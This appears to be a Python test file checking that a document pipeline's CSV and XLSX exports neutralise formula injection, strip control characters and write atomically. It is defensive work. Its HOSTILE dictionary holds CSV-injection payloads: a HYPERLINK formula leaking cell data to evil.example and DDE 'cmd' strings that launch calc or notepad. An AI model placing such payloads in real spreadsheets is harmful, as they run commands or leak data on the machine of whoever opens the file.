"""Exports that cannot attack their reader (issue 23): formula-like texts from a hostile PDF never
become live formulas in a CSV or XLSX, texts hold no control or non-character, and a command that
fails leaves no half-written file."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.outputs.compare import plan_metrics
from pipeline.outputs.compare import to_csv as compare_csv
from pipeline.outputs.compare import to_html as compare_html
from pipeline.outputs.export import to_csv
from pipeline.outputs.files import atomic_path
from pipeline.outputs.workbook import apply_workbook, write_workbook
from pipeline.store.database import Store
from tests.test_store import make_logframe

runner = CliRunner()

# What a hostile PDF can put at the start of a cell (OWASP "CSV injection").
HOSTILE = {
    "goal": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "output": "+cmd|' /C calc'!A0",
    "activity": "-2+3+cmd|' /C calc'!A0",
    "indicator": "@SUM(1+1)*cmd|' /C calc'!A0",
    "baseline": "=1+1",
    "target": "-10%",
    "institution": "=cmd|' /C notepad'!A0",
}


def hostile_logframe():  # noqa: ANN201 - a Logframe
    lf = make_logframe()
    goal = lf.goals[0]
    goal.text = HOSTILE["goal"]
    goal.outputs[0].text = HOSTILE["output"]
    activity = goal.outputs[0].activities[0]
    activity.text = HOSTILE["activity"]
    indicator = activity.indicators[0]
    indicator.text = HOSTILE["indicator"]
    indicator.baseline = HOSTILE["baseline"]
    indicator.target = HOSTILE["target"]
    activity.institutions[0].name = HOSTILE["institution"]
    return lf


def test_csv_export_neutralises_formula_like_texts():
    rows = list(csv.DictReader(io.StringIO(to_csv([hostile_logframe()]))))
    assert rows and rows[0]["goal_text"] == "'" + HOSTILE["goal"]
    assert rows[0]["output_text"] == "'" + HOSTILE["output"]
    assert rows[0]["activity_text"] == "'" + HOSTILE["activity"]
    assert rows[0]["indicators"] == "'" + HOSTILE["indicator"]
    assert rows[0]["lead_institutions"] == "'" + HOSTILE["institution"]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_compare_csv_neutralises_formula_like_labels():
    lf = hostile_logframe()
    lf.document.country = "=HYPERLINK(\"http://evil.example\")"
    text = compare_csv([plan_metrics(lf)])
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert cells and not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_compare_html_has_the_reviews_content_security_policy():
    page = compare_html([plan_metrics(make_logframe())])
    assert '<meta http-equiv="Content-Security-Policy" content="default-src &#x27;none&#x27;;' in page
    assert "script-src &#x27;none&#x27;" in page


def test_xlsx_stores_formula_like_texts_as_strings_and_round_trips(tmp_path):
    store = Store(str(tmp_path / "x.db"))
    doc = store.load(hostile_logframe()).document_id
    path = write_workbook(store, [doc], tmp_path / "w.xlsx")
    wb = openpyxl.load_workbook(path)
    seen = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value in HOSTILE.values():
                    assert cell.data_type == "s" and cell.quotePrefix
                    seen[cell.value] = True
    assert set(seen) == set(HOSTILE.values())
    # An unchanged workbook changes nothing (before: "cannot be empty", the formulas having no value).
    report = apply_workbook(store, path, author="ana")
    assert report.applied == [] and report.skipped == []


def test_a_failed_write_leaves_the_target_as_it_was(tmp_path):
    target = tmp_path / "out.xlsx"
    target.write_text("a previous export\n")
    with pytest.raises(RuntimeError), atomic_path(target) as temp:
        temp.write_text("half a workbo")
        raise RuntimeError("the writer failed half-way")
    assert target.read_text() == "a previous export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.xlsx"]  # no temporary file left either


def test_cli_export_to_a_missing_folder_is_one_line_and_creates_nothing(tmp_path):
    db = str(tmp_path / "x.db")
    Store(db).load(make_logframe())
    for fmt, name in (("csv", "out.csv"), ("xlsx", "out.xlsx")):
        target = tmp_path / "missing" / name
        res = runner.invoke(app, ["export", "--format", fmt, "-o", str(target), "--db", db])
        assert res.exit_code == 2, res.output
        assert "does not exist" in res.output and len(res.output.strip().splitlines()) == 1
        assert not (tmp_path / "missing").exists()


# ---- no control or non-character in a stored text ------------------------------------------------

NOT_TEXT = [chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), *range(0x7F, 0xA0))] + [
    "\ufdd0", "\ufdef", "\ufffe", "\uffff", "\U0001fffe", "\U0010ffff", "\ud800"]


def _texts(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [t for k, v in value.items() for t in (*_texts(k), *_texts(v))]
    if isinstance(value, (list, tuple)):
        return [t for v in value for t in _texts(v)]
    return []


def test_records_hold_no_control_or_non_character():
    lf = make_logframe(activity="Renforcer la lutte contre les in\ufffecendies\x1b[2J de brousse\x00")
    goal = lf.goals[0]
    goal.level_name = "Axe\x07 stratégique\ufdd0"
    goal.outputs[0].indicators[0].baseline = "10\x0b%\r\n(2020)\U0010ffff"
    goal.outputs[0].activities[0].indicators[0].disaggregation = ["sex\x02", "âge\x85"]
    lf.document.acronyms = {"SEI\x00": "Secretary\ufffe of State"}
    texts = _texts(lf.model_dump())
    assert not [t for t in texts if any(ch in t for ch in NOT_TEXT)]
    activity = goal.outputs[0].activities[0]
    assert activity.text == "Renforcer la lutte contre les in-cendies[2J de brousse"
    assert goal.outputs[0].indicators[0].baseline == "10% (2020)"


def test_a_store_holding_a_non_character_still_exports_a_workbook(tmp_path):
    """A store loaded before texts were cleaned may hold PDFium's U+FFFE: the workbook is still written
    (it was a traceback, "All strings must be XML compatible", and a corrupt 3 kB file)."""
    from sqlalchemy import update

    from pipeline.store.schema import ActivityRow

    store = Store(str(tmp_path / "x.db"))
    doc = store.load(make_logframe()).document_id
    with store.session() as s:
        s.execute(update(ActivityRow).values(text="in\ufffecendies"))
    path = write_workbook(store, [doc], tmp_path / "w.xlsx")
    cells = [c for ws in openpyxl.load_workbook(path).worksheets for row in ws.iter_rows(values_only=True)
             for c in row]
    assert "in-cendies" in cells


@pytest.mark.corpus
def test_central_african_republic_plan_exports_to_xlsx(corpus: Path, tmp_path):
    """PDFium's U+FFFE line-end hyphens ("in\\ufffecendies") reached the stored texts; the workbook
    export then crashed. Read as pdfplumber reads them, they are hyphens."""
    from pipeline.extract import extract_file

    lf = extract_file(corpus / "plans" / "adaptation_plan_central_african_republic.pdf")
    store = Store(str(tmp_path / "car.db"))
    doc = store.load(lf).document_id
    texts = _texts(store.logframe(doc).model_dump())
    assert not [t for t in texts if any(ch in t for ch in NOT_TEXT)]
    write_workbook(store, [doc], tmp_path / "car.xlsx")
    assert openpyxl.load_workbook(tmp_path / "car.xlsx").sheetnames[1] == "goals"
